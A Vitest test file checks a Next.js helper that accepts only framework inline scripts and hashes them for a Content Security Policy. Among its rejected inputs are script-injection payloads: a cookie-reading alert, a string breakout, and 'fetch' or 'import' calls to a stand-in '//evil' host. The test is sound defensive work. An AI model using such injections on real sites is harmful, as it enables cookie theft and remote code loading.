import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { inlineScriptHashes, isFrameworkScript } from "@/lib/page-cache/inline-scripts";

const sha = (text: string) => `'sha256-${createHash("sha256").update(text, "utf8").digest("base64")}'`;

const QUEUE = "(self.__next_f=self.__next_f||[]).push([0])";
const FLIGHT = 'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n2:I[\\"/_next/static/chunks/a.js\\"]\\n"])';
const TURBOPACK = '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[94553]});';

describe("isFrameworkScript", () => {
  it.each([
    ["the flight queue", QUEUE],
    ["a flight chunk", FLIGHT],
    ["a binary flight chunk", 'self.__next_f.push([3,"AAEC"])'],
    ["the Turbopack chunk list", TURBOPACK],
  ])("accepts %s", (_, text) => expect(isFrameworkScript(text)).toBe(true));

  it.each([
    ["arbitrary code", "alert(document.cookie)"],
    ["code after a flight chunk", `${FLIGHT};alert(1)`],
    ["a flight chunk whose string breaks out", 'self.__next_f.push([1,"a"+alert(1)+"b"])'],
    ["a flight chunk with code instead of a string", "self.__next_f.push([1,alert(1)])"],
    ["a Turbopack list with a function", '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":[]},alert(1));'],
    ["a Turbopack list with an unknown key", '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"onload":"alert(1)"});'],
    ["React's streaming script", '$RC("B:0","S:0")'],
    ["the queue with a statement added", `${QUEUE};fetch("//evil")`],
  ])("refuses %s", (_, text) => expect(isFrameworkScript(text)).toBe(false));
});

describe("inlineScriptHashes", () => {
  it("hashes the framework's inline scripts, skips scripts with src, and counts the rest as refused", () => {
    const html = [
      "<!DOCTYPE html><html><head>",
      '<script src="/_next/static/chunks/a.js" async=""></script>',
      `<script id="_R_">${TURBOPACK}</script>`,
      "</head><body><p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
      `<script>${QUEUE}</script><script>${FLIGHT}</script><script>${QUEUE}</script>`,
      "<script>alert(1)</script><SCRIPT type=module>import('//evil')</SCRIPT>",
      "</body></html>",
    ].join("");
    const { hashes, refused } = inlineScriptHashes(html);
    expect(hashes).toEqual([sha(TURBOPACK), sha(QUEUE), sha(FLIGHT)]);
    expect(refused).toBe(2);
  });

  it("gives a document without inline scripts no hashes", () => {
    expect(inlineScriptHashes("<html><body><script src='/x.js'></script></body></html>")).toEqual({ hashes: [], refused: 0 });
  });
});
